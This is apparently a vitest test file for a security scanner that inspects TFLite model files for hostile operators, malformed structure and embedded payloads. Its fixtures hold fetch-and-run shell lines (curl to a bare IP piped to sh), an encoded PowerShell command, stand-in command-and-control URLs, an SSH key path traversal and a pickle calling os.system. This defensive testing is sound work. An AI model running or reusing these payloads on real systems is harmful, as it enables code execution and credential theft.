// Hand-built TFLite attack variants (test/builders/tflite.ts: the flatc-generated builder over our
// schema, plus raw byte patches) and the outcome each must produce.
import { describe, expect, it } from 'vitest';
import { scan, fromBytes, type FileReport } from '../../src/engine';
import { BuiltinOperator, TensorType } from '../../src/engine/formats/tflite/schema/generated';
import { readFileSync } from 'node:fs';
import type { ByteSource } from '../../src/engine/types';
import { MAX_PROBLEMS, parseTflite, parseTfliteBytes } from '../../src/engine/formats/tflite/parse';
import { paged } from '../../src/engine/formats/tflite/checked-buffer';
import { tfliteScanner } from '../../src/engine/formats/tflite/scanner';
import { buildTflite, concat, simpleModel, stringBuffer, text } from '../builders/tflite';
import { buildZip } from '../builders/zip';

const run = (bytes: Uint8Array, name = 'm.tflite') => scan(fromBytes(bytes, name));
const only = (r: FileReport, id: string) => r.findings.filter((f) => f.ruleId === id);
const u32 = (b: Uint8Array, at: number) => new DataView(b.buffer, b.byteOffset).getUint32(at, true);

describe('tflite operators: what the model asks the runtime to run', () => {
  it.each([
    ['FlexPyFunc', 'tflite/python-op', 'critical'],
    ['FlexEagerPyFunc', 'tflite/python-op', 'critical'],
    ['PyFuncStateless', 'tflite/python-op', 'critical'],
    ['FlexWriteFile', 'tflite/filesystem-op', 'warning'],
    ['FlexMatchingFiles', 'tflite/filesystem-op', 'warning'],
    ['FlexSaveV2', 'tflite/filesystem-op', 'warning'],
    ['FlexRpcClient', 'tflite/network-op', 'warning'],
    ['FlexErf', 'tflite/flex-op', 'info'],
    ['MyVendorNms', 'tflite/custom-op', 'warning'],
    ['Flex', 'tflite/custom-op', 'warning'],
  ])('a custom op named %s → %s (%s)', async (name, rule, severity) => {
    const r = await run(simpleModel([{ custom: name }]));
    expect(only(r, rule)).toMatchObject([{ severity, evidence: name, location: { pointer: '/operator_codes/0' } }]);
    expect(only(r, rule)[0]!.message).toContain('1 use');
  });

  it('a custom op hidden in deprecated_builtin_code (builtin_code says ADD) is still found, as GetBuiltinCode takes the max', async () => {
    const r = await run(simpleModel([{ builtin: BuiltinOperator.ADD, deprecated: BuiltinOperator.CUSTOM, custom: 'FlexPyFunc' }]));
    expect(only(r, 'tflite/python-op')).toHaveLength(1);
  });

  it('an unnamed custom operator is a custom-op WARNING saying it has no name', async () => {
    const r = await run(simpleModel([{ builtin: BuiltinOperator.CUSTOM }]));
    expect(only(r, 'tflite/custom-op')[0]!.message).toMatch(/no name/);
  });

  it('a builtin code past the known enum is reported as an unknown builtin (INFO)', async () => {
    const r = await run(simpleModel([{ builtin: 5000 as BuiltinOperator, deprecated: 127 }]));
    expect(only(r, 'tflite/unknown-builtin')).toMatchObject([{ severity: 'info', evidence: 'builtin_code 5000' }]);
  });

  it('builtin operators alone leave the model clean', async () => {
    const r = await run(simpleModel([{ builtin: BuiltinOperator.ADD }, { builtin: BuiltinOperator.SOFTMAX }]));
    expect(r.status).toBe('clean');
    expect(r.nodes[0]!.notes!.operatorKinds).toEqual({ ADD: 1, SOFTMAX: 1 });
  });
});

describe('tflite structure: indexes, counts and data outside the file', () => {
  it('dangling indexes: tensor buffer, opcode, operator input and metadata buffer each reported with a pointer', async () => {
    const r = await run(buildTflite({
      opcodes: [{ builtin: BuiltinOperator.ADD }],
      subgraphs: [{ tensors: [{ name: 'x', shape: [1], buffer: 99 }],
        operators: [{ opcode: 5, inputs: [0], outputs: [0] }, { opcode: 0, inputs: [42, -1], outputs: [0] }] }],
      metadata: [{ name: 'm', buffer: 50 }],
      signatures: [{ key: 'serving_default', subgraph: 3 }],
    }));
    const got = only(r, 'tflite/dangling-index').map((f) => [f.location.pointer, f.evidence]);
    expect(got).toEqual(expect.arrayContaining([
      ['/subgraphs/0/tensors/0', '99 of 1'],
      ['/subgraphs/0/operators/0', '5 of 1'],
      ['/subgraphs/0/operators/1', '42 of 1'],
      ['/metadata/0', '50 of 1'],
      ['/signature_defs/0', '3 of 1'],
    ]));
    expect(got).toHaveLength(5); // -1 (omitted optional input) is not dangling
  });

  it('a buffer stored "outside the flatbuffer" past the end of the file is out of bounds', async () => {
    const r = await run(buildTflite({ buffers: [{}, { offset: 1_000_000n, size: 64n }, { offset: 2n ** 64n - 1n, size: 2n ** 64n - 1n }] }));
    expect(only(r, 'tflite/buffer-out-of-bounds').map((f) => f.location.pointer).sort()).toEqual(['/buffers/1', '/buffers/2']);
  });

  it('offset 1 is the "not external" marker, not an out-of-bounds buffer', async () => {
    const r = await run(buildTflite({ buffers: [{}, { offset: 1n, size: 1_000_000n }] }));
    expect(only(r, 'tflite/buffer-out-of-bounds')).toEqual([]);
  });

  it('large custom options past the end of the file are out of bounds', async () => {
    const r = await run(buildTflite({ opcodes: [{ custom: 'MyOp' }],
      subgraphs: [{ operators: [{ opcode: 0, largeCustomOptions: { offset: 10_000_000n, size: 16n } }] }] }));
    expect(only(r, 'tflite/buffer-out-of-bounds')).toMatchObject([{ location: { pointer: '/subgraphs/0/operators/0' } }]);
  });

  it('absurd rank and negative or overflowing dimensions are absurd-count WARNINGs', async () => {
    const r = await run(buildTflite({ subgraphs: [{ tensors: [
      { name: 'rank', shape: Array.from({ length: 100 }, () => 1) },
      { name: 'neg', shape: [-5, 3] },
      { name: 'huge', shape: [2 ** 31 - 1, 2 ** 31 - 1, 2 ** 31 - 1] },
      { name: 'ok', shape: [1, 224, 224, 3] },
    ] }] }));
    expect(only(r, 'tflite/absurd-count').map((f) => f.location.pointer).sort()).toEqual(
      ['/subgraphs/0/tensors/0', '/subgraphs/0/tensors/1', '/subgraphs/0/tensors/2']);
  });

  it('a tensors vector claiming 2^31 entries is malformed at once, without walking or allocating by the count', async () => {
    const bytes = buildTflite({ subgraphs: [{ tensors: [{ name: 'x', shape: [1] }] }] });
    // Find the tensors vector length (1) of subgraph 0 through the parsed offsets, then inflate it.
    const model = parseTfliteBytes(bytes);
    const sg = model.subgraphs[0]!.offset;
    const vtable = sg - new DataView(bytes.buffer).getInt32(sg, true);
    const field = sg + new DataView(bytes.buffer).getUint16(vtable + 4, true);
    const vec = field + u32(bytes, field);
    expect(u32(bytes, vec)).toBe(1);
    new DataView(bytes.buffer).setUint32(vec, 0x7fffffff, true);
    const started = Date.now();
    const r = await run(bytes);
    expect(Date.now() - started).toBeLessThan(5000); // hang guard: trusting the count would loop 2^31 times
    expect(only(r, 'format/malformed')).toMatchObject([{ location: { pointer: '/subgraphs/0' } }]);
    expect(r.complete).toBe(false);
  });

  it('twenty thousand dangling tensors keep only MAX_PROBLEMS records and mark the scan incomplete', async () => {
    const tensors = Array.from({ length: 20_000 }, () => ({ buffer: 7 }));
    const bytes = buildTflite({ subgraphs: [{ tensors }] });
    const model = parseTfliteBytes(bytes);
    expect(model.problems).toHaveLength(MAX_PROBLEMS);
    expect(model.droppedProblems).toBe(20_000 - MAX_PROBLEMS);
    const r = await run(bytes);
    expect(only(r, 'tflite/dangling-index').length).toBeLessThanOrEqual(50);
    expect(r.complete).toBe(false);
  });

  it('ten thousand operator codes sharing one 1 MiB custom_code: inspected once, reports capped, fast', async () => {
    const name = `Flex${'A'.repeat(1024 * 1024)}`;
    const bytes = buildTflite({ shareStrings: true, opcodes: Array.from({ length: 10_000 }, () => ({ custom: name })) });
    expect(bytes.length).toBeLessThan(2 * 1024 * 1024);
    const started = Date.now();
    const r = await run(bytes);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(only(r, 'tflite/flex-op').length).toBeLessThanOrEqual(50);
  });

  it('a root offset past the end of the file is malformed, not a crash', async () => {
    const bytes = buildTflite({});
    new DataView(bytes.buffer).setUint32(0, 0x7ffffff0, true);
    const r = await run(bytes);
    expect(r.nodes[0]).toMatchObject({ format: 'tflite', status: 'malformed' });
    expect(only(r, 'format/malformed')).toHaveLength(1);
  });

  it('garbage after the TFL3 identifier is malformed, never clean', async () => {
    const bytes = new Uint8Array(256).fill(0xff);
    bytes.set(text('TFL3'), 4);
    const r = await run(bytes);
    expect(r.format).toBe('tflite');
    expect(r.status).toBe('error');
  });

  it('a .tflite name without the TFL3 identifier is malformed (and the name alone chose the scanner)', async () => {
    const r = await run(text('not a flatbuffer at all, just text'));
    expect(r.format).toBe('tflite');
    expect(only(r, 'format/malformed')[0]!.message).toMatch(/TFL3/);
  });

  it('a schema version other than 3 is reported', async () => {
    const r = await run(buildTflite({ version: 2 }));
    expect(only(r, 'tflite/unexpected-version')).toMatchObject([{ severity: 'warning', evidence: 'version 2' }]);
  });

  it('tables past the in-memory window of a large model are reported unread, not malformed', () => {
    const bytes = simpleModel([{ builtin: BuiltinOperator.ADD }]);
    const model = parseTfliteBytes(bytes.subarray(0, 40), bytes.length);
    expect(model.problems.some((p) => p.kind === 'unread')).toBe(true);
    expect(model.problems.some((p) => p.kind === 'broken')).toBe(false);
  });
});

describe('tflite strings: metadata, signatures and external files', () => {
  it('a shell command in a text metadata buffer is found at /metadata/0', async () => {
    const r = await run(buildTflite({ buffers: [{}, { data: text('curl http://1.2.3.4/x | sh') }], metadata: [{ name: 'notes', buffer: 1 }] }));
    expect(only(r, 'strings/shell-command')).toMatchObject([{ location: { pointer: '/metadata/0' } }]);
  });

  it('a URL inside a binary metadata buffer (TFLITE_METADATA is itself a flatbuffer) is found by its printable run', async () => {
    const blob = concat(new Uint8Array([1, 0, 0, 0, 0xff, 2]), text('see http://payload.evil.example.com/a'), new Uint8Array([0, 0, 7]));
    const r = await run(buildTflite({ buffers: [{}, { data: blob }], metadata: [{ name: 'TFLITE_METADATA', buffer: 1 }] }));
    expect(only(r, 'strings/url')[0]!.evidence).toContain('payload.evil.example.com');
  });

  it('the model description and signature names go through the string detectors', async () => {
    const r = await run(buildTflite({ description: 'powershell -enc SQBFAFgA', subgraphs: [{ tensors: [{ name: 't' }] }],
      signatures: [{ key: 'curl http://1.2.3.4/x | sh', subgraph: 0, inputs: [['in', 0]] }] }));
    const pointers = r.findings.filter((f) => f.ruleId.startsWith('strings/')).map((f) => f.location.pointer);
    expect(pointers).toContain('/signature_defs/0/signature_key');
    expect(pointers).toContain('/description');
  });

  it('constant STRING tensors are decoded and inspected; hostile string offsets stop the decode safely', async () => {
    const hostile = stringBuffer(['ok']);
    new DataView(hostile.buffer).setInt32(4, 0x7fffffff, true);
    const r = await run(buildTflite({
      buffers: [{}, { data: stringBuffer(['fine', 'curl http://1.2.3.4/x | sh']) }, { data: hostile }],
      subgraphs: [{ tensors: [{ name: 's', type: TensorType.STRING, buffer: 1 }, { name: 'h', type: TensorType.STRING, buffer: 2 }] }],
    }));
    expect(only(r, 'strings/shell-command')).toMatchObject([{ location: { pointer: '/subgraphs/0/tensors/0' } }]);
    expect(r.complete).toBe(true);
  });

  it('a URL in a Flex op\'s custom_options (its serialized NodeDef) is found at the operator', async () => {
    const nodeDef = concat(new Uint8Array([0x0a, 0x07]), text('PrintV2'), new Uint8Array([0x2a, 0x30]), text('output_stream=http://c2.evil.example.com/beacon'), new Uint8Array([0, 1]));
    const r = await run(buildTflite({ opcodes: [{ custom: 'FlexPrintV2' }], subgraphs: [{ operators: [{ opcode: 0, customOptions: nodeDef }] }] }));
    expect(only(r, 'strings/url')).toMatchObject([{ location: { pointer: '/subgraphs/0/operators/0' } }]);
    expect(only(r, 'tflite/filesystem-op')).toHaveLength(1);
  });

  it('external buffer groups: a path climbing out of the folder is a WARNING, a plain name INFO', async () => {
    const r = await run(buildTflite({ externalGroups: ['../../home/user/.ssh/id_rsa', 'weights-00001.bin'] }));
    expect(only(r, 'tflite/external-file').map((f) => [f.location.pointer, f.severity])).toEqual([
      ['/external_buffer_groups/0', 'warning'], ['/external_buffer_groups/1', 'info']]);
  });
});

describe('tflite containers: appended associated files and bundles', () => {
  it('a pickle appended in an associated-files zip is scanned as a child and its payload found', async () => {
    const pickle = text("cos\nsystem\n(S'id'\ntR.");
    const bytes = concat(simpleModel([{ builtin: BuiltinOperator.ADD }]), buildZip({ members: [{ name: 'labels.pkl', data: pickle }] }));
    const r = await run(bytes);
    const child = r.nodes.find((n) => n.path.join('/') === 'm.tflite/labels.pkl');
    expect(child?.format).toBe('pickle');
    expect(r.findings.some((f) => f.severity === 'critical' && f.location.path.join('/') === 'm.tflite/labels.pkl')).toBe(true);
  });

  it('a .task bundle holding a Python-op model reports it at the member path', async () => {
    const task = buildZip({ members: [{ name: 'hand.tflite', data: simpleModel([{ custom: 'FlexPyFunc' }]) }] });
    const r = await run(task, 'hand_landmarker.task');
    expect(only(r, 'tflite/python-op')[0]!.location.path).toEqual(['hand_landmarker.task', 'hand.tflite']);
  });

  it('the sniffer claims TFL3 at bytes 4..8 whatever the name', () => {
    const bytes = simpleModel([]);
    expect(tfliteScanner.sniff({ bytes, size: bytes.length, name: 'x.bin', ext: '.bin' })?.confidence).toBe('magic');
    expect(tfliteScanner.sniff({ bytes: text('PK\x03\x04....'), size: 8, name: 'x.bin', ext: '.bin' })).toBeNull();
  });
});

describe('tflite robustness: hostile bytes never crash the scan', () => {
  const rich = buildTflite({
    description: 'd', opcodes: [{ builtin: BuiltinOperator.ADD }, { custom: 'FlexReadFile' }],
    subgraphs: [{ name: 'main', tensors: [{ name: 's', type: TensorType.STRING, buffer: 1, shape: [1] }, { name: 'y', shape: [2, 2] }],
      operators: [{ opcode: 0, inputs: [0], outputs: [1] }, { opcode: 1, inputs: [0], outputs: [1], customOptions: text('ReadFile') }] }],
    buffers: [{}, { data: stringBuffer(['a', 'b']) }, { data: text('1.5.0') }, { offset: 10n, size: 4n }],
    metadata: [{ name: 'min_runtime_version', buffer: 2 }], signatures: [{ key: 'k', subgraph: 0, inputs: [['s', 0]] }],
    externalGroups: ['w.bin'],
  });

  it('random bytes behind a TFL3 identifier and random overwrites of a rich model: no throw, no hang, never clean when broken', async () => {
    const { default: fc } = await import('fast-check');
    await fc.assert(fc.asyncProperty(
      fc.uint8Array({ minLength: 8, maxLength: 600 }),
      fc.array(fc.tuple(fc.nat(), fc.nat({ max: 0xffffffff })), { maxLength: 6 }),
      async (noise, writes) => {
        for (const bytes of [concat(noise.slice(0, 4), text('TFL3'), noise.slice(8)), rich.slice()]) {
          for (const [at, v] of writes) new DataView(bytes.buffer).setUint32((at % Math.max(1, bytes.length - 4)), v, true);
          const started = Date.now();
          const r = await run(bytes);
          expect(Date.now() - started).toBeLessThan(5000);
          expect(r.format).toBe('tflite');
          if (r.nodes[0]!.status === 'malformed') expect(r.complete).toBe(false);
        }
      }), { numRuns: 300, seed: 4242 });
  });
});

describe('tflite large files: paged reads instead of copying the model into memory', () => {
  const MiB = 1024 * 1024;
  /** A sparse `size`-byte source: `parts` at their offsets, zeros elsewhere; counts the bytes read. */
  function sparse(size: number, parts: Array<[number, Uint8Array]>, sync: boolean) {
    const stats = { bytes: 0 };
    const readSync = (offset: number, length: number): Uint8Array => {
      const end = Math.min(size, offset + length);
      const out = new Uint8Array(Math.max(0, end - offset));
      for (const [at, p] of parts) {
        const from = Math.max(at, offset);
        const to = Math.min(at + p.length, end);
        if (from < to) out.set(p.subarray(from - at, to - at), from - offset);
      }
      stats.bytes += out.length;
      return out;
    };
    const make = (name: string): ByteSource => ({
      name, size,
      read: async (o, n) => readSync(o, n),
      slice: () => { throw new Error('not needed'); },
      ...(sync ? { readSync } : {}),
    });
    return { source: make('big.tflite'), stats };
  }

  const payload = text('curl http://1.2.3.4/x | sh');
  const model = buildTflite({
    opcodes: [{ custom: 'FlexWriteFile' }],
    subgraphs: [{ tensors: [{ name: 't', shape: [1] }], operators: [{ opcode: 0, inputs: [0], outputs: [0] }] }],
    // A >2 GB-style model: data outside the flatbuffer, found by offset/size from the file start.
    buffers: [{}, { offset: BigInt(75 * MiB), size: BigInt(payload.length) }, { offset: BigInt(79 * MiB), size: BigInt(2 * MiB) }],
    metadata: [{ name: 'notes', buffer: 1 }],
  });

  it('an 80 MiB model with readSync is parsed by pages: external data checked and inspected, little read', async () => {
    const { source, stats } = sparse(80 * MiB, [[0, model], [75 * MiB, payload]], true);
    const r = await scan(source);
    expect(r.nodes[0]!.notes).toMatchObject({ reading: 'paged' });
    expect(only(r, 'tflite/filesystem-op')).toHaveLength(1);
    expect(only(r, 'strings/shell-command')).toMatchObject([{ location: { pointer: '/metadata/0' } }]);
    expect(only(r, 'tflite/buffer-out-of-bounds').map((f) => f.location.pointer)).toEqual(['/buffers/2']);
    expect(r.complete).toBe(true);
    expect(stats.bytes).toBeLessThan(2 * MiB);
  });

  it('without readSync the same model is read through a 64 MiB window and still judged', async () => {
    const { source } = sparse(80 * MiB, [[0, model], [75 * MiB, payload]], false);
    const r = await scan(source);
    expect(r.nodes[0]!.notes).toMatchObject({ bytesHeld: 64 * MiB });
    expect(only(r, 'strings/shell-command')).toHaveLength(1);
    expect(r.complete).toBe(true);
  });

  it('paged and in-memory parses of a converter-written model agree', () => {
    const bytes = new Uint8Array(readFileSync('fixtures/tflite/benign/dense.tflite'));
    const viaPages = parseTflite(paged((o, n) => bytes.slice(o, o + n), bytes.length));
    expect(viaPages).toEqual(parseTfliteBytes(bytes));
  });
});
